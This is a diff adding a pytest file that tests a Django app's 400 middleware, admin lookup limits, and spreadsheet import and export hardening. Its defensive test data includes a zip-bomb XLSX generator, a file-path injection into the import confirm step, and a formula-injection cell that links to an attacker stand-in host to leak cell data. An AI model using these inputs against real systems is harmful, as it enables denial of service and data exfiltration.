@@ -1,0 +1,210 @@
+"""The 400 middleware, and the admin held to the app's rules: lookups, imports, exports."""
+
+import io
+import time
+import zipfile
+from pathlib import Path
+
+import openpyxl
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+
+from disbursements.models import Item, Vendor
+from monitoring.models import MinimumWage
+
+
+@pytest.mark.parametrize("query", [{"kabupaten": "\x00"}, {"kabupaten": "9" * 5000}, {"page": str(2**63)},
+                                   {"x\x00": "1"}, {"tahun": "-" + "1" * 20}])
+def test_a_nul_byte_or_a_number_past_bigint_in_a_query_gets_the_indonesian_400(client, users, query):
+    client.force_login(users["officer"])
+
+    response = client.get("/calon/unggah/", query)
+
+    assert response.status_code == 400
+    assert "Permintaan tidak sah" in response.content.decode()
+
+
+def test_a_nul_byte_in_a_posted_field_name_or_value_gets_the_400(client, users):
+    client.force_login(users["provincial"])
+
+    assert client.post("/akun/tahun/", {"tahun": "2025\x00", "next": "/"}).status_code == 400
+    assert client.post("/akun/tahun/", {"tahun\x00": "2025"}).status_code == 400
+
+
+def test_the_largest_bigint_and_a_nik_pass_the_middleware(client, users):
+    client.force_login(users["provincial"])
+
+    assert client.get("/", {"page": str(2**63 - 1), "q": "6472014703850002"}).status_code == 200
+
+
+def test_the_admin_refuses_a_pattern_lookup_and_an_unlisted_field_with_a_400(client, users):
+    client.force_login(users["admin"])
+
+    assert client.get("/admin/recipients/person/", {"nik__regex": "("}).status_code == 400
+    assert client.get("/admin/recipients/person/", {"nik__startswith": "6472"}).status_code == 400
+    assert client.get("/admin/recipients/person/", {"nik": "6472014703850002"}).status_code == 400
+    assert client.get("/admin/recipients/person/", {"sex__exact": "P"}).status_code == 200
+
+
+def test_a_year_no_date_can_hold_in_an_admin_date_filter_answers_400(client, users):
+    client.force_login(users["admin"])
+
+    response = client.get("/admin/monitoring/visit/", {"due_on__year": "99999"})
+
+    assert response.status_code == 400 and "Permintaan tidak sah" in response.content.decode()
+    assert client.get("/admin/monitoring/visit/", {"e": "1"}).status_code == 400
+
+
+def test_the_audit_events_show_counts_link_answers(client, users):
+    client.force_login(users["admin"])
+
+    assert client.get("/admin/pghistory/events/", {"_facets": "True"}).status_code == 200
+
+
+# ------------------------------------------------------------------ imports
+def xlsx(rows) -> bytes:
+    book = openpyxl.Workbook()
+    for row in rows:
+        book.active.append(row)
+    out = io.BytesIO()
+    book.save(out)
+    return out.getvalue()
+
+
+def zip_bomb_xlsx() -> bytes:
+    """Under 300 KB on disk; its sheet inflates to about 80 MB of cells."""
+    row = "".join(f'<c r="{col}1"><v>1</v></c>' for col in "ABCDEFGHIJ")
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
+        source = zipfile.ZipFile(io.BytesIO(xlsx([["code", "name"]])))
+        for info in source.infolist():
+            if info.filename != "xl/worksheets/sheet1.xml":
+                archive.writestr(info.filename, source.read(info.filename))
+        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
+            sheet.write(b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/'
+                        b'spreadsheetml/2006/main"><sheetData>')
+            chunk = ("<row>" + row + "</row>").encode() * 10_000
+            for _ in range(30):
+                sheet.write(chunk)
+            sheet.write(b"</sheetData></worksheet>")
+    return out.getvalue()
+
+
+def import_page(client, url, data: bytes, name="data.xlsx", fmt="0"):
+    return client.post(url, {"format": fmt, "import_file": SimpleUploadedFile(name, data)})
+
+
+def test_a_zip_bomb_xlsx_is_refused_in_the_admin_import_in_under_a_second(client, users):
+    client.force_login(users["admin"])
+    bomb = zip_bomb_xlsx()
+    assert len(bomb) < 300_000
+
+    started = time.monotonic()
+    response = import_page(client, "/admin/disbursements/item/import/", bomb)
+
+    assert time.monotonic() - started < 1.0
+    assert response.status_code == 200
+    assert "zip bomb" in response.content.decode()
+    assert not Item.objects.exists()
+
+
+def test_an_admin_import_over_the_row_limit_is_refused(client, users, settings):
+    settings.ADMIN_IMPORT_MAX_ROWS = 3
+    client.force_login(users["admin"])
+
+    response = import_page(client, "/admin/disbursements/vendor/import/",
+                           xlsx([["name"]] + [[f"CV {i}"] for i in range(5)]))
+
+    assert "paling banyak 3 baris" in response.content.decode()
+
+
+def test_admin_import_errors_name_the_sheet_row_the_column_and_the_value_in_indonesian(client, users, samarinda):
+    client.force_login(users["admin"])
+    rows = [["KODE", "TAHUN", "UMK", "NOMOR_SK", "TANGGAL_SK"],
+            ["64.72", 2025, 3_500_000, "SK 1", None],
+            ["99.99", 2025, 3_500_000, "SK 2", None],
+            ["64.72", 2026, None, "SK 3", None]]
+
+    page = import_page(client, "/admin/monitoring/minimumwage/import/", xlsx(rows)).content.decode()
+
+    assert "Baris 3, kolom KODE, nilai “99.99”: tidak ditemukan" in page
+    assert "Baris 4, kolom UMK" in page
+    assert "Line number" not in page and "does not exist" not in page and "null value" not in page
+    assert not MinimumWage.objects.exists()
+
+
+def test_the_import_page_speaks_indonesian(client, users):
+    client.force_login(users["admin"])
+
+    page = client.get("/admin/disbursements/vendor/import/").content.decode()
+
+    assert "This importer will import" not in page and "Submit" not in page
+    assert "Impor" in page
+
+
+def test_the_confirm_step_reads_only_a_file_the_server_named(client, users, tmp_path):
+    client.force_login(users["admin"])
+    victim = tmp_path / "jangan-dihapus.csv"
+    victim.write_text("name\nCV Bocor\n")
+
+    response = client.post("/admin/disbursements/vendor/process_import/",
+                           {"import_file_name": str(victim), "original_file_name": "x.csv", "format": "1"})
+
+    assert response.status_code == 400
+    assert victim.exists() and not Vendor.objects.filter(name="CV Bocor").exists()
+
+
+def test_a_clean_admin_import_goes_through_preview_and_confirm(client, users):
+    client.force_login(users["admin"])
+
+    preview = import_page(client, "/admin/disbursements/vendor/import/", xlsx([["Nama penyedia", "npwp"], ["CV Maju", "01.234"]]))
+    confirm = preview.context["confirm_form"]
+
+    response = client.post("/admin/disbursements/vendor/process_import/", confirm.initial)
+
+    assert response.status_code == 302
+    assert Vendor.objects.filter(name="CV Maju", npwp="01.234").exists()
+
+
+# ------------------------------------------------------------------ exports
+def exported_book(client, url, data=None):
+    response = client.post(url, {"format": "0", **(data or {})})
+    assert response.status_code == 200, response.content[:300]
+    return openpyxl.load_workbook(io.BytesIO(response.content))
+
+
+def test_an_admin_export_writes_a_formula_as_text_with_indonesian_sheet_and_headers(client, users):
+    Vendor.objects.create(name='=HYPERLINK("http://jahat.example/?"&A1,"klik")', npwp="01.234")
+    client.force_login(users["admin"])
+
+    book = exported_book(client, "/admin/disbursements/vendor/export/",
+                         {"vendorresource_name": "on", "vendorresource_npwp": "on"})
+
+    sheet = book.worksheets[0]
+    assert sheet.title == "Penyedia"
+    assert [c.value for c in sheet[1]][:2] == ["Nama penyedia", "NPWP"]
+    cell = sheet["A2"]
+    assert cell.data_type == "s" and cell.value.startswith("'=HYPERLINK")
+
+
+def test_an_admin_export_writes_umk_and_year_as_numbers(client, users, samarinda):
+    MinimumWage.objects.create(kabupaten=samarinda, year=2025, amount=3_579_313, decree_number="SK 1")
+    client.force_login(users["admin"])
+
+    book = exported_book(client, "/admin/monitoring/minimumwage/export/",
+                         {f"minimumwageresource_{f}": "on" for f in ("kabupaten", "year", "amount", "decree_number")})
+
+    sheet = book.worksheets[0]
+    headers = [c.value for c in sheet[1]]
+    row = {h: c for h, c in zip(headers, sheet[2])}
+    assert row["TAHUN"].value == 2025 and row["TAHUN"].data_type == "n"
+    assert row["UMK"].value == 3_579_313 and row["UMK"].data_type == "n"
+    assert row["KODE"].value == "64.72"
+
+
+def test_a_number_past_bigint_or_a_nul_in_a_path_segment_gets_the_400(client, users):
+    client.force_login(users["provincial"])
+
+    assert client.get(f"/kuota/tahun/{2**63}/").status_code == 400
+    assert client.get("/kuota/tahun/20%0025/").status_code == 400
+    assert client.get(f"/kuota/tahun/{2**63 - 1}/").status_code == 404
